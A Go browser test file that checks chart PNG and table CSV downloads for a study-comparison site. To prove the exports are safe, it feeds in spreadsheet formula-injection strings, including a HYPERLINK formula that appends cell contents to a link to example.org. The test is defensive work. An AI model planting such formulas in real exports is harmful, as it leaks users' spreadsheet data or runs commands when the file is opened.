package browser

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"image/png"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	browserdomain "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"mizan/compare"
	"mizan/internal/long"
)

// formulas are names that a table program would run.
var formulas = []string{"=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", `=HYPERLINK("https://example.org/?"&A1;"x")`}

// renamed is a study whose outlets have other names.
func renamed(study *compare.Study, names []string) *compare.Study {
	other := *study
	other.Outlets = slices.Clone(study.Outlets)
	for i := range other.Outlets {
		other.Outlets[i].Name = names[i%len(names)]
	}
	return &other
}

// downloads makes a tab save its files in a folder.
func (p *tab) downloads() string {
	p.Helper()
	dir := p.TempDir()
	_, err := chromedp.CallBrowser(p.ctx, browserdomain.SetDownloadBehavior, browserdomain.SetDownloadBehaviorParams{
		Behavior: browserdomain.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir,
		BrowserContextID: chromedp.FromContext(p.ctx).BrowserContextID,
	})
	if err != nil {
		p.Fatal(err)
	}
	return dir
}

// saved clicks a button and returns the file that it saves.
func (p *tab) saved(dir, button string) (name string, data []byte) {
	p.Helper()
	eval[any](p, fmt.Sprintf(`look.unfold(%s), %s.scrollIntoView({ block: 'center', behavior: 'instant' }), null`, button, button))
	at := eval[struct{ X, Y float64 }](p, fmt.Sprintf(`(() => { const box = %s.getBoundingClientRect(); return { X: box.x + box.width / 2, Y: box.y + box.height / 2 }; })()`, button))
	p.do(chromedp.MouseClickXY(at.X, at.Y))
	for range 100 {
		time.Sleep(50 * time.Millisecond)
		files, err := os.ReadDir(dir)
		if err != nil {
			p.Fatal(err)
		}
		if len(files) != 1 || strings.HasSuffix(files[0].Name(), ".crdownload") {
			continue
		}
		path := filepath.Join(dir, files[0].Name())
		if data, err = os.ReadFile(path); err != nil || len(data) == 0 {
			continue
		}
		if err := os.Remove(path); err != nil {
			p.Fatal(err)
		}
		return files[0].Name(), data
	}
	p.Fatalf("%s saves nothing", button)
	return "", nil
}

// A chart is saved as a picture that says what it is: larger than the chart,
// in its colours, on the paper of the page.
func TestChartsAreSaved(t *testing.T) {
	long.Only(t)
	t.Parallel()
	p := open(t, samplePage(t, "ar"), prefers("prefers-color-scheme", "light"))
	dir := p.downloads()
	for _, id := range []string{"chart-slant", "chart-contrast-0"} {
		button := fmt.Sprintf(`document.querySelector('#%s + .save button')`, id)
		name, data := p.saved(dir, button)
		if !regexp.MustCompile(`^mizan-[a-z]+-\d+\.png$`).MatchString(name) {
			t.Errorf("the picture of %s is called %q", id, name)
		}
		picture, err := png.Decode(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]int{}
		bounds := picture.Bounds()
		for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
			for x := bounds.Min.X; x < bounds.Max.X; x++ {
				r, g, b, a := picture.At(x, y).RGBA()
				if a != 0xffff {
					t.Fatalf("the picture of %s is transparent at %d, %d", id, x, y)
				}
				seen[fmt.Sprintf("#%02x%02x%02x", r>>8, g>>8, b>>8)]++
			}
		}
		box := eval[struct{ Width, Height int }](p, fmt.Sprintf(`({ Width: document.getElementById(%q).clientWidth, Height: document.getElementById(%q).clientHeight })`, id, id))
		if bounds.Dx() < 2*box.Width || bounds.Dy() < 2*(box.Height+60) {
			t.Errorf("the picture of %s is %v for a chart of %v: no room for a title and a source", id, bounds, box)
		}
		for _, mark := range p.leading(id) {
			for _, colour := range mark.Colours {
				if seen[colour] == 0 && mark.Width > 4 {
					t.Errorf("the picture of %s lacks %s, the colour of %q", id, colour, mark.Tip)
				}
			}
		}
	}
}

// A table is saved as CSV that Excel opens in Arabic, cell by cell what the
// page shows, and nothing in it is a formula.
func TestTablesAreSaved(t *testing.T) {
	long.Only(t)
	t.Parallel()
	address, err := writePage("formulas", renamed(studied(t, sample), formulas), "en")
	if err != nil {
		t.Fatal(err)
	}
	p := open(t, address)
	p.unfold()
	dir := p.downloads()
	tables := eval[int](p, `document.querySelectorAll('[data-save=csv]').length`)
	if tables < 10 {
		t.Fatalf("%d tables can be saved", tables)
	}
	figure := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?%?$`)
	names := 0
	for i := 0; i < tables; i += 4 {
		button := fmt.Sprintf(`document.querySelectorAll('[data-save=csv]')[%d]`, i)
		name, data := p.saved(dir, button)
		if !regexp.MustCompile(`^mizan-[a-z]+-\d+\.csv$`).MatchString(name) {
			t.Errorf("the table is called %q", name)
		}
		text, marked := bytes.CutPrefix(data, []byte("\ufeff"))
		if !marked {
			t.Errorf("%s does not start with the mark by which Excel knows UTF-8", name)
		}
		rows, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		shown := eval[[][]string](p, fmt.Sprintf(`Array.from(%s.closest('p').previousElementSibling.querySelectorAll('tr'), row => Array.from(row.cells).flatMap(cell => [cell.innerText].concat(Array(cell.colSpan - 1).fill(''))))`, button))
		if len(rows) != len(shown) || len(rows) < 2 {
			t.Errorf("%s has %d rows, the page shows %d", name, len(rows), len(shown))
			continue
		}
		for r, row := range rows {
			for c, cell := range row {
				if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") && !figure.MatchString(cell) {
					t.Errorf("%s: a table program would run %q", name, cell)
				}
				if strings.Contains(cell, "1+1") {
					names++
				}
				if got, want := plainCell(cell), plainCell(shown[r][c]); got != want {
					t.Errorf("%s: row %d has %q, the page shows %q", name, r, got, want)
				}
			}
		}
	}
	if names == 0 {
		t.Error("no table holds a name that looks like a formula: the test would not see one run")
	}
}

// plainCell is a cell without what only its form needs: signs before figures,
// commas, the quote that keeps a text a text, and white space.
func plainCell(cell string) string {
	cell = strings.NewReplacer("−", "-", ",", "", "|", "", "%", "%", " %", "%", "\u2066", "", "\u2067", "", "\u2068", "", "\u2069", "").Replace(cell)
	return strings.Join(strings.Fields(strings.TrimLeft(cell, "'+")), " ")
}
